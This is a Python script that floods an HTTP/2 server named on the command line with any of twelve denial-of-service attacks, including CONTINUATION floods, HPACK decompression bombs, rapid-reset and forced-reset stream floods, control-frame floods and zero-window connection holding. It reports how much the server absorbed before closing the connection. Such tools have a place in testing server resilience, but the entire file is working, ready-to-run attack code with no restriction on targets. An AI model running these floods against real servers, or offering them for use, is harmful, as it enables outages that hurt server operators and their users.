"""Attacks a server over HTTP/2: h2_floods.py HOST KIND. Goes on until the server ends the connection, or a bound of its
own. Prints what it took: {"ended": whether the server ended it, "bytes": sent, "units": resets or frames}."""

import json
import select
import socket
import ssl
import sys
import time

HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, DATA = 1, 2, 3, 4, 6, 8, 9, 0
END_STREAM, END_HEADERS = 1, 4
BOUND = 40_000_000  # bytes
UNITS = 200_000


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def length(size):
    if size < 127:
        return bytes([size])
    out, size = b"\x7f", size - 127
    while size >= 128:
        out, size = out + bytes([size % 128 + 128]), size // 128
    return out + bytes([size])


def field(name, value, first=b"\x00"):
    return first + length(len(name)) + name + length(len(value)) + value


def request(path=b"/", more=b""):
    return (field(b":method", b"GET") + field(b":scheme", b"https") + field(b":authority", host.encode()) +
            field(b":path", path) + more)


def connect(settings=b""):
    context = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(socket.create_connection((host, 443), 10), server_hostname=host)
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
    return connection


def attack(first, unit, pause=0.0):
    """Sends `first`, then unit(i) for i from 0, and reads whatever comes. With a pause between the pieces what is counted is
    what the server took, not what lies in the kernel's buffers when it ends the connection."""
    connection = connect()
    sent = len(first)
    connection.sendall(first)
    connection.setblocking(False)
    units, ended = 0, False
    until = time.monotonic() + 20
    while not ended and sent < BOUND and units < UNITS and time.monotonic() < until:
        time.sleep(pause)
        count = 50 if len(unit(0)) < 1000 else 1
        batch = b"".join(unit(units + i) for i in range(count))
        rest = batch
        while rest and not ended:
            try:
                done = connection.send(rest)
                sent, rest = sent + done, rest[done:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([connection], [connection], [], 0.2)
            except OSError:
                ended = True
            ended = ended or drained(connection)
            if time.monotonic() > until:
                break
        units += count
    # What was sent may still be on its way to the end.
    connection.setblocking(True)
    connection.settimeout(5)
    try:
        while not ended:
            ended = not connection.recv(65536)
    except TimeoutError:
        pass
    except OSError:
        ended = True
    return {"ended": ended, "bytes": sent, "units": units}


def drained(connection):
    try:
        while True:
            if not connection.recv(65536):
                return True
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return False
    except OSError:
        return True


def zero_windows():
    """Ten connections that ask for a hundred large bodies each and take nothing."""
    held = []
    for _ in range(10):
        connection = connect(b"\x00\x04" + (0).to_bytes(4, "big"))
        for i in range(100):
            connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request(b"/bytes/10000000")))
        held.append(connection)
    time.sleep(4)
    return {"ended": True, "bytes": 0, "units": 1000}


host, kind = sys.argv[1:]
open_request = frame(HEADERS, END_HEADERS, 1, request(b"/echo"))
bomb_seed = field(b"x", b"a" * 4000, b"\x40")
floods = {
    "continuation": lambda: attack(frame(HEADERS, 0, 1, request()),
                                   lambda i: frame(CONTINUATION, 0, 1, field(b"x", b"a" * 16000)), 0.02),
    "small continuation": lambda: attack(frame(HEADERS, 0, 1, request()), lambda i: frame(CONTINUATION, 0, 1), 0.02),
    "hpack": lambda: attack(b"", lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1,
                                                 request(more=bomb_seed + b"\xbe" * 12000)), 0.02),
    "small hpack": lambda: attack(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(more=bomb_seed)),
                                  lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 3,
                                                  request(more=b"\xbe" * 40)), 0.02),
    "reset": lambda: attack(b"", lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request()) +
                            frame(RST_STREAM, 0, 2 * i + 1, (8).to_bytes(4, "big")), 0.02),
    "forced reset": lambda: attack(b"", lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request()) +
                                   frame(WINDOW_UPDATE, 0, 2 * i + 1, bytes(4)), 0.02),
    "ping": lambda: attack(b"", lambda i: frame(PING, 0, 0, b"12345678")),
    "settings": lambda: attack(b"", lambda i: frame(SETTINGS, 0, 0)),
    "empty data": lambda: attack(open_request, lambda i: frame(DATA, 0, 1)),
    "priority": lambda: attack(b"", lambda i: frame(PRIORITY, 0, 2 * i + 1, bytes(4) + b"\x10")),
    "window": lambda: attack(open_request, lambda i: frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))),
    "zero windows": zero_windows,
}
print(json.dumps(floods[kind]()))
